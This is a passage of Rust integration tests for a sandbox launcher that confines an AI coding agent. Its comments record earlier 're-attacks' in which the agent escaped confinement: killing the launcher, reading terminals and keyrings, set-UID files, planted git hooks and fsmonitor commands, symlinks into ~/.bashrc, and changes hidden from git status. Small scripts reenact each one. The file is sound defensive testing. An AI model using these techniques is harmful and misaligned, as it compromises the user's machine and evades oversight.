        Default::default(),
    );
    let proxy = Arc::new(session.with_first_byte_timeout(timeout));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(proxy.serve(listener, std::future::pending()));
    let tunnel = || async {
        let mut socket = tokio::net::TcpStream::connect(address).await.unwrap();
        socket.write_all(format!("CONNECT {destination} HTTP/1.1\r\n\r\n").as_bytes()).await.unwrap();
        let connected = crate::gateway::read_head(&mut socket).await;
        assert!(connected.starts_with("HTTP/1.1 200"), "{connected}");
        socket
    };

    let asked = tokio::time::Instant::now();
    let mut silent = tunnel().await;
    let read = tokio::time::timeout(timeout * 4, silent.read(&mut [0u8; 1])).await.expect("a silent tunnel is closed");
    assert!(matches!(read, Ok(0) | Err(_)), "{read:?}");
    assert!(asked.elapsed() >= timeout, "closed after {:?}, before the timeout", asked.elapsed());

    let asked = tokio::time::Instant::now();
    let trickled = crate::gateway::trickle_until_closed(tunnel().await, b"GET / HTTP/1.1\r\nx-slow: ", timeout / 8);
    let closed = tokio::time::timeout(timeout * 4, trickled).await.expect("a trickling head is closed");
    assert!(matches!(closed, Ok(0) | Err(_)), "{closed:?}");
    assert!(asked.elapsed() >= timeout, "closed after {:?}, before the timeout", asked.elapsed());
}

/// `--allow-tcp`: a named destination is reached at a loopback alias the agent's `/etc/hosts`
/// maps it to, a loopback one at its own address; the daemon relays each connection byte for byte
/// and records it (`sandbox.egress.tcp_forwarded`); the same ports at any other address reach
/// nothing.
#[test]
fn allowed_tcp_destinations_are_relayed_and_recorded() {
    use std::io::{BufRead, Write};
    let echo = || {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                std::thread::spawn(move || {
                    let mut line = String::new();
                    let mut reader = std::io::BufReader::new(&stream);
                    if reader.read_line(&mut line).is_ok() {
                        let _ = (&stream).write_all(format!("echo:{line}").as_bytes());
                    }
                });
            }
        });
        port
    };
    let (named, literal) = (echo(), echo());
    let rig = LaunchRig::new();
    let started = rig.run(&["daemon", "start"], &[]);
    assert!(started.status.success(), "{}", text(&started));
    let script = format!(
        "#!/usr/bin/env python3\nimport json, socket\nreport = {{}}\n\
         def talk(host, port):\n    try:\n        with socket.create_connection((host, port), timeout=5) as s:\n            \
         s.sendall(b'ping\\n'); return s.recv(100).decode()\n    except Exception as e:\n        return 'error ' + type(e).__name__\n\
         report['resolved'] = sorted({{a[4][0] for a in socket.getaddrinfo('localhost', 1, socket.AF_INET)}})\n\
         report['hosts'] = open('/etc/hosts').read().splitlines()[1]\n\
         report['named'] = talk('localhost', {named})\nreport['literal'] = talk('127.0.0.1', {literal})\n\
         report['named_elsewhere'] = talk('127.0.0.1', {named})\n\
         json.dump(report, open('{report}', 'w'))\n",
        report = rig.report().display()
    );
    claude_runs(&rig, script);
    let (named_flag, literal_flag) = (format!("localhost:{named}"), format!("127.0.0.1:{literal}"));
    let output = rig.run(&["launch", "claude", "--allow-tcp", &named_flag, "--allow-tcp", &literal_flag], &[]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    let report: Value = serde_json::from_str(&std::fs::read_to_string(rig.report()).unwrap()).unwrap();
    assert_eq!(report["hosts"], "127.0.0.10 localhost", "the agent's /etc/hosts maps the name: {report}");
    assert!(report["resolved"].as_array().unwrap().contains(&json!("127.0.0.10")), "{report}");
    assert_eq!(report["named"], "echo:ping\n", "{report}");
    assert_eq!(report["literal"], "echo:ping\n", "{report}");
    assert!(report["named_elsewhere"].as_str().unwrap().starts_with("error"), "{report}");
    let listed = rig.run(&["audit", "list", "--json", "--event-type", "sandbox.egress.tcp_forwarded"], &[]);
    let listed: Value = serde_json::from_slice(&listed.stdout).unwrap();
    let mut hosts: Vec<&str> = listed["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["payload"]["aileron.proxy.upstream.host"].as_str().unwrap())
        .collect();
    hosts.sort();
    let mut expected = [literal_flag.as_str(), named_flag.as_str()];
    expected.sort();
    assert_eq!(hosts, expected, "{listed:#}");
    let bad = rig.run(&["launch", "claude", "--allow-tcp", "github.com"], &[]);
    assert_eq!(bad.status.code(), Some(1), "{}", text(&bad));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("hint: --allow-tcp takes HOST:PORT"), "{}", text(&bad));
}

/// An HTTPS upstream that speaks h2 only (ALPN `h2`), with the gateway tests' certificate: it
/// answers each request with the HTTP version and path it received, and counts the connections
/// it accepts in `accepted`.
async fn h2_tls_upstream(accepted: Arc<std::sync::atomic::AtomicUsize>) -> std::net::SocketAddr {
    use rustls::pki_types::pem::PemObject as _;
    use rustls::pki_types::{CertificateDer, PrivateKeyDer};
    aileron::platform::process::install_crypto_provider();
    let certs = vec![CertificateDer::from_pem_slice(crate::gateway::TEST_UPSTREAM_CERT.as_bytes()).unwrap()];
    let key = PrivateKeyDer::from_pem_slice(crate::gateway::TEST_UPSTREAM_KEY.as_bytes()).unwrap();
    let mut config = rustls::ServerConfig::builder().with_no_client_auth().with_single_cert(certs, key).unwrap();
    config.alpn_protocols = vec![b"h2".to_vec()];
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            accepted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let acceptor = acceptor.clone();
            tokio::spawn(async move {
                let Ok(tls) = acceptor.accept(stream).await else { return };
                let service = hyper::service::service_fn(|request: hyper::Request<hyper::body::Incoming>| async move {
                    let body = format!("{:?} {}", request.version(), request.uri().path());
                    Ok::<_, std::convert::Infallible>(hyper::Response::new(axum::body::Body::from(body)))
                });
                let _ = hyper::server::conn::http2::Builder::new(hyper_util::rt::TokioExecutor::new())
                    .serve_connection(hyper_util::rt::TokioIo::new(tls), service)
                    .await;
            });
        }
    });
    address
}

/// The seventh re-attack: the agent shares the launcher's process group, and `kill -KILL 0` (or
/// `-STOP`) reached the launcher, which then watched nothing more while the agent ran on. The
/// agent may signal only its own processes (Landlock's signal scope): the launcher outlives the
/// agent's `kill -KILL 0` and ends the session with the agent's exit code.
#[test]
fn the_agent_cannot_signal_its_launcher() {
    use std::os::unix::process::CommandExt as _;
    // SAFETY: asks the kernel for its Landlock ABI version (no ruleset is made).
    let abi = unsafe {
        libc::syscall(libc::SYS_landlock_create_ruleset, std::ptr::null::<u8>(), 0usize, 1u32 /* VERSION */)
    };
    if abi < 6 {
        eprintln!("the_agent_cannot_signal_its_launcher: Landlock ABI {abi} has no signal scope; not checked here");
        return;
    }
    let rig = LaunchRig::new();
    claude_runs(&rig, "#!/bin/sh\nkill -KILL 0\nexit 3\n");
    // Its own process group, so that a launcher that shared its group would not take the test
    // harness with it.
    let output = rig
        .command_at(&rig.workspace(), &["launch", "claude"], Some(Path::new("/usr/bin")), &[])
        .process_group(0)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(128 + 9), "the launcher did not outlive the agent\n{}", text(&output));
    let ended = rig.run(&["audit", "list", "--json", "--event-type", "session.ended"], &[]);
    let ended: Value = serde_json::from_slice(&ended.stdout).unwrap();
    let record = &ended["items"][0];
    assert_eq!(record["payload"]["aileron.session.exit_code"], 137, "{record:#}");
}

/// The seventh re-attack: `/dev/pts` was bound writable, so the agent could `chmod a+rw` the
/// user's terminal and let any local user write to it. The twelfth: every terminal of the user's
/// was there to open, and the agent read a `sudo` password typed in another tab. The agent's
/// terminals are a devpts of its own, read-only: it opens new ones and writes to them, but sees
/// none of the user's others and changes no terminal's mode.
#[test]
fn the_agent_opens_terminals_but_cannot_change_their_modes() {
    let rig = LaunchRig::new();
    let report = rig.report();
    // Another terminal of the user's, open through the session.
    let other = nix::pty::openpty(None, None).unwrap();
    let other_name = nix::unistd::ttyname(&other.slave).unwrap();
    let script = format!(
        "#!/usr/bin/env python3\nimport os\nout = []\nmain, sub = os.openpty()\nname = os.ttyname(sub)\n\
         out.append('opened ' + name)\nos.write(sub, b'seen')\nout.append('read ' + os.read(main, 4).decode())\n\
         try:\n    os.chmod(name, 0o666)\n    out.append('chmod went through')\nexcept OSError as e:\n    \
         out.append('chmod refused %d' % e.errno)\n\
         try:\n    fd = os.open('{other}', os.O_RDWR | os.O_NOCTTY)\n    os.write(fd, b'from-the-agent')\n    \
         os.close(fd)\nexcept OSError as e:\n    out.append('the other refused %d' % e.errno)\n\
         open('{}', 'w').write('\\n'.join(out))\n",
        report.display(),
        other = other_name.display()
    );
    claude_runs(&rig, script);
    let output =
        rig.command_at(&rig.workspace(), &["launch", "claude"], Some(Path::new("/usr/bin")), &[]).output().unwrap();
    assert!(output.status.success(), "{}", text(&output));
    let seen = std::fs::read_to_string(&report).unwrap();
    assert!(seen.contains("opened /dev/pts/") && seen.contains("read seen"), "no terminal for the agent: {seen}");
    assert!(seen.contains(&format!("chmod refused {}", libc::EROFS)), "the agent changed a terminal's mode: {seen}");
    // The name may be one of its own terminals' (each devpts counts from 0): what reached the
    // user's terminal is what tells.
    nix::fcntl::fcntl(&other.master, nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::O_NONBLOCK)).unwrap();
    let mut reached = [0u8; 64];
    let read = nix::unistd::read(&other.master, &mut reached).unwrap_or(0);
    assert!(
        !String::from_utf8_lossy(&reached[..read]).contains("from-the-agent"),
        "the agent wrote to the user's terminal"
    );
    drop(other);
}

/// The thirteenth re-attack: the agent, as their owner, opened the user's virtual console
/// (`/dev/tty2`) for reading and took a line typed there (Landlock rules writes only). The host's
/// consoles, their screens and serial lines are `/dev/null` to the agent; its own terminal stays.
#[test]
fn the_host_consoles_are_out_of_the_agents_sight() {
    let rig = LaunchRig::new();
    let report = rig.report();
    let script = [
        "#!/usr/bin/env python3",
        "import os",
        "null = os.stat('/dev/null').st_rdev",
        "seen = []",
        "for name in ('console', 'tty1', 'tty2', 'ttyS0', 'vcs1', 'vcsa1'):",
        "    if os.path.exists('/dev/' + name):",
        "        seen.append(name + ('=null' if os.stat('/dev/' + name).st_rdev == null else '=device'))",
        &format!("open('{}', 'w').write(' '.join(seen))\n", report.display()),
    ]
    .join("\n");
    claude_runs(&rig, script);
    let output = rig.command_in(&rig.workspace(), &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    assert!(output.status.success(), "{}", text(&output));
    let seen = std::fs::read_to_string(&report).unwrap();
    let on_host = ["console", "tty1", "tty2", "ttyS0", "vcs1", "vcsa1"]
        .iter()
        .filter(|name| Path::new("/dev").join(name).exists())
        .count();
    assert_eq!(seen.split_whitespace().count(), on_host, "{seen}");
    assert!(!seen.contains("=device"), "a host console reached the agent: {seen}");
}

/// The home as a read list (decision 0013): a credential store no list names (a new CLI's token,
/// notes, another project's `.env`) is not in the agent's sight; its workspace, its own
/// directories, the user's git config, the toolchains on PATH (and where their links lead) and
/// what `--expose` names are, and the session's record says which. The seventeenth re-attack's
/// layouts: the agent's own directory and `~/.cargo` kept in a dotfiles repository by the user's
/// links (there by their names; the store in it still hidden), links an earlier agent left in its
/// own directory on PATH (one to `~/notes`, one to `/`: neither followed), and another session's
/// temp directory (out of sight).
#[test]
fn the_agent_sees_only_its_part_of_the_home() {
    const PLANTED: &str = "PLANTED-IN-HOME-5f2a";
    let rig = LaunchRig::new();
    let home = rig.user_home();
    let write = |relative: &str, text: &str| {
        let path = home.join(relative);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, text).unwrap();
        path
    };
    for secret in [
        "notes/secret.txt",
        "notes/private/secret.txt",
        ".config/newtool/token.json",
        "src/other/.env",
        "dotfiles/cargo/credentials.toml",
    ] {
        write(secret, &format!("token = {PLANTED}\n"));
    }
    std::os::unix::fs::symlink("dotfiles/cargo", home.join(".cargo")).unwrap();
    std::fs::create_dir_all(home.join("dotfiles/claude/local")).unwrap();
    std::os::unix::fs::symlink("dotfiles/claude", home.join(".claude")).unwrap();
    // What an earlier agent could have left in its own directory, on the user's PATH.
    std::os::unix::fs::symlink(home.join("notes/private"), home.join("dotfiles/claude/local/zz-notes")).unwrap();
    std::os::unix::fs::symlink("/", home.join("dotfiles/claude/bin")).unwrap();
    // Another session's temp directory in the launch directory.
    let runtime = rig.temp.path().join("run");
    std::fs::create_dir_all(runtime.join("aileron/launch/agent-tmp-other")).unwrap();
    std::fs::set_permissions(runtime.join("aileron"), std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::write(runtime.join("aileron/launch/agent-tmp-other/theirs.txt"), PLANTED).unwrap();
    write(".gitconfig", "[user]\n\tname = The User\n");
    write(".bashrc", &format!("export NEWTOOL_TOKEN={PLANTED}\n"));
    write("shown/readme.txt", "shown with --expose\n");
    for (tool, relative) in
        [("cargo tool ran", ".cargo/bin/mytool"), ("linked tool ran", ".local/share/helper/9.9/helper")]
    {
        let path = write(relative, &format!("#!/bin/sh\necho '{tool}'\n"));
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    std::fs::create_dir_all(home.join(".local/bin")).unwrap();
    std::os::unix::fs::symlink("../share/helper/9.9/helper", home.join(".local/bin/helper")).unwrap();
    let report = rig.report();
    let script = [
        "#!/usr/bin/env python3",
        "import json, os, subprocess",
        "home = os.environ['HOME']",
        "def read(relative):",
        "    try:",
        "        return open(os.path.join(home, relative)).read()",
        "    except OSError as error:",
        "        return type(error).__name__",
        "def run(*command):",
        "    done = subprocess.run(command, capture_output=True, text=True)",
        "    return done.stdout.strip() or done.stderr.strip()",
        "def write(relative):",
        "    try:",
        "        open(os.path.join(home, relative), 'w').write('x')",
        "        return 'written'",
        "    except OSError as error:",
        "        return type(error).__name__",
        "seen = {name: read(name) for name in ('notes/secret.txt', '.config/newtool/token.json', 'src/other/.env',",
        "    '.cargo/credentials.toml', '.bashrc', '.gitconfig', 'shown/readme.txt')}",
        "seen['listing'] = sorted(os.listdir(home))",
        "seen['mytool'] = run('mytool')",
        "seen['helper'] = run('helper')",
        "seen['git_name'] = run('git', 'config', '--global', 'user.name')",
        "seen['own_directory'] = write('.claude/note')",
        "seen['planted_links'] = [read('.claude/local/zz-notes/secret.txt'), read('.claude/bin' + home + '/notes/secret.txt')]",
        "seen['launch_dir'] = sorted(os.listdir(os.path.dirname(os.environ['TMPDIR'])))",
        "seen['other_session'] = read(os.path.dirname(os.environ['TMPDIR']) + '/agent-tmp-other/theirs.txt')",
        "seen['dotfiles_store'] = read('dotfiles/cargo/credentials.toml')",
        "seen['home_itself'] = write('planted')",
        &format!("open('{}', 'w').write(json.dumps(seen))\n", report.display()),
    ]
    .join("\n");
    claude_runs(&rig, script);
    let path = format!(
        "{}:{}:{}:{}:/usr/bin",
        home.join(".cargo/bin").display(),
        home.join(".local/bin").display(),
        home.join(".claude/local").display(),
        home.join(".claude/bin").display()
    );
    let shown = home.join("shown");
    // The dotfiles repository writable too: the store in it, a directory down, stays hidden (the
    // twenty-first re-attack: the pin that keeps its directory in place covered the hiding mount).
    let dotfiles = home.join("dotfiles");
    let args = ["launch", "--expose", shown.to_str().unwrap(), "--writable", dotfiles.to_str().unwrap(), "claude"];
    let output =
        rig.command_in(&rig.workspace(), &args, Some(Path::new(&path)), &[("XDG_RUNTIME_DIR", runtime.as_os_str())]);
    assert!(output.status.success(), "{}", text(&output));
    let seen: Value = serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
    assert!(!seen.to_string().contains(PLANTED), "the agent read a secret of the home: {seen:#}");
    for absent in ["notes/secret.txt", ".config/newtool/token.json", "src/other/.env", ".bashrc"] {
        assert_eq!(seen[absent], "FileNotFoundError", "{absent}: {seen:#}");
    }
    assert_eq!(seen[".cargo/credentials.toml"], "", "a store inside what is kept stays hidden: {seen:#}");
    assert_eq!(seen["dotfiles_store"], "", "and where its link leads: {seen:#}");
    assert_eq!(seen["planted_links"], json!(["FileNotFoundError", "FileNotFoundError"]), "{seen:#}");
    assert_eq!(seen["other_session"], "FileNotFoundError", "{seen:#}");
    let launch_dir = seen["launch_dir"].to_string();
    assert!(!launch_dir.contains("agent-tmp-other"), "another session's temp directory: {launch_dir}");
    assert_eq!(seen[".gitconfig"], "[user]\n\tname = The User\n", "{seen:#}");
    assert_eq!(seen["git_name"], "The User", "{seen:#}");
    assert_eq!(seen["shown/readme.txt"], "shown with --expose\n", "{seen:#}");
    assert_eq!(seen["mytool"], "cargo tool ran", "{seen:#}");
    assert_eq!(seen["helper"], "linked tool ran", "{seen:#}");
    assert_eq!(seen["own_directory"], "written", "{seen:#}");
    assert!(home.join("dotfiles/claude/note").exists(), "the agent's directory by its name is the user's");
    assert_ne!(seen["home_itself"], "written", "{seen:#}");
    assert!(!home.join("planted").exists());
    let listing: Vec<&str> = seen["listing"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
    for hidden in ["notes", "src", ".bashrc", ".config"] {
        assert!(!listing.contains(&hidden), "{hidden} listed in the agent's home: {listing:?}");
    }
    let started = rig.run(&["audit", "list", "--json", "--event-type", "session.started"], &[]);
    let started: Value = serde_json::from_slice(&started.stdout).unwrap();
    let home_seen = started["items"][0]["payload"]["aileron.session.home_seen"].to_string();
    assert!(home_seen.contains(".gitconfig") && home_seen.contains("shown"), "{started:#}");
    assert!(!home_seen.contains("notes") && !home_seen.contains(".bashrc"), "{started:#}");
}

/// The twelfth re-attack: the user's session keyring (where Kerberos tickets live) was the agent's
/// to read. The thirteenth: a key's permissions are the uid's, so the agent linked the user's own
/// user keyring (its id in `/proc/keys`) into its session keyring and read its keys. The agent
/// reaches no keyring at all.
#[test]
fn the_agent_reaches_none_of_the_users_keyrings() {
    use std::os::unix::process::CommandExt as _;
    let rig = LaunchRig::new();
    let report = rig.report();
    let script = format!(
        "#!/usr/bin/env python3\nimport ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n\
         found = libc.syscall({keyctl}, 10, ctypes.c_long(-3), b'user', b'aileron-test-secret', 0)\n\
         user = libc.syscall({keyctl}, 0, ctypes.c_long(-4), 0)\n\
         open('{}', 'w').write(('found' if found > 0 else 'not found') + (' user keyring' if user > 0 else ''))\n",
        report.display(),
        keyctl = libc::SYS_keyctl
    );
    claude_runs(&rig, script);
    let mut launch = rig.command_at(&rig.workspace(), &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    // SAFETY: keyctl and add_key with constant, NUL-terminated arguments, in the child before exec.
    unsafe {
        launch.pre_exec(|| {
            libc::syscall(libc::SYS_keyctl, 1 /* JOIN_SESSION_KEYRING */, std::ptr::null::<libc::c_char>());
            let (kind, name, payload) = (c"user", c"aileron-test-secret", b"KERBEROS-TGT");
            let session: libc::c_long = -3; // KEY_SPEC_SESSION_KEYRING
            let key = libc::syscall(
                libc::SYS_add_key,
                kind.as_ptr(),
                name.as_ptr(),
                payload.as_ptr(),
                payload.len(),
                session,
            );
            if key < 0 { Err(std::io::Error::last_os_error()) } else { Ok(()) }
        });
    }
    let output = match launch.output() {
        Ok(output) => output,
        Err(error) => {
            eprintln!("the_agent_reaches_none_of_the_users_keyrings: no keyrings here ({error}); not checked");
            return;
        }
    };
    assert!(output.status.success(), "{}", text(&output));
    assert_eq!(std::fs::read_to_string(&report).unwrap(), "not found", "the agent reached the user's keyrings");
}

/// The eleventh re-attack: in its workspace the agent could `chmod 4755` a program it wrote, which
/// any local user then ran as the user. Set-ID modes are refused, by `chmod` or at creation.
#[test]
fn the_agent_sets_no_set_id_bit() {
    use std::os::unix::fs::PermissionsExt as _;
    let rig = LaunchRig::new();
    let work = rig.workspace();
    let report = rig.report();
    let script = format!(
        "#!/bin/sh\ncp /bin/true tool\nchmod 4755 tool; a=$?\nchmod 2755 tool; b=$?\n\
         python3 -c \"import os; os.close(os.open('made', os.O_CREAT | os.O_WRONLY, 0o4755))\"; c=$?\n\
         chmod 755 tool; d=$?\n\
         python3 -c \"import ctypes, sys; p = ctypes.create_string_buffer(120); \
         sys.exit(0 if ctypes.CDLL(None).syscall({io_uring_setup}, 8, p) >= 0 else 1)\"; e=$?\n\
         echo \"$a $b $c $d $e\" > '{}'\n",
        report.display(),
        io_uring_setup = libc::SYS_io_uring_setup
    );
    claude_runs(&rig, script);
    let output = rig.command_at(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]).output().unwrap();
    assert!(output.status.success(), "{}", text(&output));
    let codes = std::fs::read_to_string(&report).unwrap();
    let codes: Vec<&str> = codes.split_whitespace().collect();
    assert!(codes[0] != "0" && codes[1] != "0" && codes[2] != "0", "a set-ID mode was set: {codes:?}");
    assert_eq!(codes[3], "0", "a plain mode is the agent's own");
    // The thirteenth re-attack made a set-UID file through io_uring's open, which no filter sees.
    assert_ne!(codes[4], "0", "io_uring is refused");
    let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o7777;
    assert_eq!(mode(&work.join("tool")), 0o755);
    assert!(!work.join("made").exists() || mode(&work.join("made")) & 0o6000 == 0);
}

/// The seventh re-attack: a descriptor the launcher inherited (a shell's `exec 7>>~/.bashrc`)
/// reached the agent, and writing through it passed Landlock and the read-only mounts. The agent
/// gets its standard streams and nothing else.
#[test]
fn the_agent_inherits_no_descriptor_of_the_launchers() {
    use std::os::fd::AsRawFd as _;
    use std::os::unix::process::CommandExt as _;
    let rig = LaunchRig::new();
    let bashrc = rig.user_home().join(".bashrc");
    std::fs::write(&bashrc, "# the user's\n").unwrap();
    let report = rig.report();
    let script = format!("#!/bin/sh\necho 'touch /tmp/pwned' >&7\necho \"rc=$?\" > '{}'\n", report.display());
    claude_runs(&rig, script);
    let appending = std::fs::OpenOptions::new().append(true).open(&bashrc).unwrap();
    let fd = appending.as_raw_fd();
    let mut launch = rig.command_at(&rig.workspace(), &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    // SAFETY: dup2 in the child before exec, as a shell's `exec 7>>file` leaves it.
    unsafe {
        launch.pre_exec(move || if libc::dup2(fd, 7) < 0 { Err(std::io::Error::last_os_error()) } else { Ok(()) });
    }
    let output = launch.output().unwrap();
    assert!(output.status.success(), "{}", text(&output));
    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# the user's\n", "the agent wrote through fd 7");
    assert_ne!(std::fs::read_to_string(&report).unwrap().trim(), "rc=0");
}

/// The seventh re-attack: a repository the agent made and git did not enter yet was only
/// reported, and the user's `git add -A && git commit` at the root then ran its fsmonitor. Every
/// repository the agent made has what would run moved aside; what `git init` wrote stays.
#[test]
fn every_repository_the_agent_made_is_disarmed() {
    let rig = LaunchRig::new();
    let work = rig.workspace();
    assert!(Command::new("git").args(["init", "-q"]).current_dir(&work).status().unwrap().success());
    let script = "#!/bin/sh\ngit init -q lib\nprintf '#!/bin/sh\\ntouch pwned\\n' > lib/.git/hooks/pre-commit\n\
                  chmod +x lib/.git/hooks/pre-commit\ngit -C lib config core.fsmonitor 'touch pwned'\n\
                  git init -q plain\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(!work.join("lib/.git/hooks/pre-commit").exists(), "the hook stayed\n{said}");
    assert!(!work.join("lib/.git/config").exists(), "a config that runs something stayed\n{said}");
    assert!(work.join("plain/.git/config").exists(), "what git init writes is kept\n{said}");
    assert!(said.contains("what in it would run was moved aside"), "{said}");
}

/// The twelfth re-attack: launched in a new project (no repository), the agent made the
/// workspace itself a git directory whose config ran its fsmonitor at the user's first `git
/// status`, silently; and in a repository it made a submodule's git directory under
/// `.git/modules/`, which `git submodule update` would use. Both are disarmed at exit.
#[test]
fn a_workspace_made_a_git_directory_and_a_module_git_directory_are_disarmed() {
    let rig = LaunchRig::new();
    let work = rig.workspace();
    let script = "#!/bin/sh\nmkdir -p objects refs/heads hooks && echo 'ref: refs/heads/main' > HEAD\n\
                  printf '[core]\\n\\tworktree = .\\n\\tfsmonitor = \"touch pwned; false\"\\n' > config\n\
                  printf '#!/bin/sh\\ntouch pwned\\n' > hooks/pre-commit && chmod +x hooks/pre-commit\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(work.join("HEAD").exists(), "the agent made it\n{said}");
    assert!(!work.join("config").exists() && !work.join("hooks/pre-commit").exists(), "armed files stayed\n{said}");
    assert!(said.contains("created a repository at"), "{said}");

    std::fs::remove_dir_all(&work).unwrap();
    std::fs::create_dir_all(&work).unwrap();
    assert!(Command::new("git").args(["init", "-q"]).current_dir(&work).status().unwrap().success());
    let script = "#!/bin/sh\ngit init -q --bare .git/modules/lib\ngit -C .git/modules/lib config core.fsmonitor 'touch pwned'\n\
                  printf '#!/bin/sh\\ntouch pwned\\n' > .git/modules/lib/hooks/post-checkout\n";
    std::fs::write(rig.bin().join("claude"), script).unwrap();
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(work.join(".git/modules/lib/HEAD").exists(), "the agent made it\n{said}");
    assert!(!work.join(".git/modules/lib/hooks/post-checkout").exists(), "the hook stayed\n{said}");
    let config = std::fs::read_to_string(work.join(".git/modules/lib/config")).unwrap_or_default();
    assert!(!config.contains("fsmonitor"), "a config that runs something stayed\n{said}");
}

/// The twelfth re-attack: a link the agent left in the user's git directory made the user's own
/// git write where it led (`.git/logs/HEAD -> ~/.bashrc`, and a branch named to be a command:
/// the user's `git checkout` appended it to their shell's start-up). Such links are moved aside
/// at exit; one the user had is kept.
#[test]
fn links_the_agent_leaves_in_the_users_git_directory_are_moved_aside() {
    let rig = LaunchRig::new();
    let (work, bashrc) = rig.committed_workspace();
    let git = |args: &[&str]| Command::new("git").args(args).current_dir(&work).status().unwrap().success();
    std::os::unix::fs::symlink("../README", work.join(".git/description-link")).unwrap();
    // The thirteenth re-attack: the same link in a repository the agent made (the warning said
    // what in it would run was moved), and a FIFO that hung the user's every commit.
    let script = format!(
        "#!/bin/sh\nrm -f .git/logs/HEAD && ln -s '{bashrc}' .git/logs/HEAD\nln -sf '{}' .git/COMMIT_EDITMSG\n\
         mkfifo .git/MERGE_MSG\ngit init -q made && mkdir -p made/.git/logs && ln -s '{bashrc}' made/.git/logs/HEAD\n",
        rig.user_home().join(".zshenv").display(),
        bashrc = bashrc.display(),
    );
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    for link in [".git/logs/HEAD", ".git/COMMIT_EDITMSG", ".git/MERGE_MSG", "made/.git/logs/HEAD"] {
        assert!(std::fs::symlink_metadata(work.join(link)).is_err(), "{link} stayed\n{said}");
    }
    assert!(std::fs::symlink_metadata(work.join(".git/description-link")).unwrap().is_symlink(), "the user's stays");
    assert!(git(&["-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", "second"]));
    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# the user's\n", "{said}");
    assert!(said.contains(".git/logs/HEAD"), "{said}");
}

/// The twelfth re-attack: the agent changed the tracked `Makefile` the user's pre-commit hook
/// runs and marked it `--skip-worktree`; `git status` and `git diff` showed nothing and the
/// commit ran the agent's recipe. At the exit the launcher names every tracked file whose change
/// the index hides (that flag, `--assume-unchanged`), and the session's end record lists them.
#[test]
fn changes_the_agent_hides_from_git_status_are_named_at_exit() {
    let rig = LaunchRig::new();
    let work = rig.workspace();
    let git = |args: &[&str]| Command::new("git").args(args).current_dir(&work).status().unwrap().success();
    assert!(git(&["init", "-q"]));
    std::fs::write(work.join("Makefile"), "check:\n\ttrue\n").unwrap();
    std::fs::write(work.join("lint.sh"), "#!/bin/sh\n").unwrap();
    std::fs::write(work.join("notes.md"), "notes\n").unwrap();
    assert!(git(&["add", "-A"]));
    assert!(git(&["-c", "user.name=u", "-c", "user.email=u@x", "commit", "-qm", "first"]));
    let script = "#!/bin/sh\nprintf 'check:\\n\\ttouch pwned\\n' > Makefile && git update-index --skip-worktree \
                  Makefile\necho 'touch pwned' >> lint.sh && git update-index --assume-unchanged lint.sh\necho more \
                  >> notes.md\n";
    claude_runs(&rig, script);
    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    assert!(std::fs::read_to_string(work.join("Makefile")).unwrap().contains("pwned"), "the agent ran\n{said}");
    let status = Command::new("git").args(["status", "--porcelain"]).current_dir(&work).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&status.stdout), " M notes.md\n", "git status shows only the open change");
    let (makefile, lint) = (work.join("Makefile"), work.join("lint.sh"));
    let warned = "changed 2 tracked file(s) and hid the change from `git status`";
    assert!(said.contains(warned), "{said}");
    assert!(said.contains(&format!("{}, {}", makefile.display(), lint.display())), "{said}");
    assert!(!said.contains("notes.md"), "{said}");
    let ended = rig.run(&["audit", "list", "--json", "--event-type", "session.ended"], &[]);
    let ended: Value = serde_json::from_slice(&ended.stdout).unwrap();
    let listed = &ended["items"][0]["payload"]["aileron.session.hidden_changes"];
    assert_eq!(*listed, serde_json::json!([makefile.display().to_string(), lint.display().to_string()]), "{ended:#}");
}

/// The thirteenth re-attack: the agent's standard streams are the launcher's open descriptions,
/// so it set stderr non-blocking and stopped the terminal's output (`tcflow(TCOOFF)`): the
/// launcher's next write failed, it ended (101) before its look, and the link the agent left in
/// `.git/logs` stayed for the user's git to write through. On a real terminal here: the launcher
/// puts the streams and the terminal back first, looks, moves the link, and is heard.
#[test]
